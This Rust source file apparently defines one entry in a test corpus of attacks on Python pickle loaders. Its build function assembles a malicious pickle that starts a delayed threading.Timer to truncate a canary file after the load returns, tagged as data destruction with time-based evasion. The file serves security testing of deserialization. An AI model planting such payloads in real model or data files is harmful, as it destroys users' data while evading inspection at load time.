//! A thread that acts after the load returned.

use super::*;

use crate::pickle::decode::Argument;

use crate::pickle::Op;

/// A timer of a fifth of a second.
pub const ATTACK: Attack = Attack {
    id: "thread-payload",
    title: "a thread that outlives the load",
    summary: "The pickle starts a timer. The load returns at once and without a trace; a moment \
              later another thread truncates the file. Python waits for it before it exits.",
    severity: Severity::High,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::DATA_DESTRUCTION,
        techniques::TIME_BASED_EVASION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502],
    references: &[Reference {
        title: "Python documentation: threading.Timer",
        url: "https://docs.python.org/3/library/threading.html#timer-objects",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Thread, "")],
        policy: &[Evidence { kind: EventKind::FileChange, text: CANARY }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let canary = scene.path(CANARY);
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("threading", "Timer.start").global("threading", "Timer");
        assembler.write(Op::BinFloat, &Argument::Float(0.2)).global("posix", "truncate");
        assembler.text(&canary).int(0).op(Op::Tuple2);
        assembler.op(Op::Tuple3).op(Op::Reduce).op(Op::Tuple1).op(Op::Reduce);
    })
}
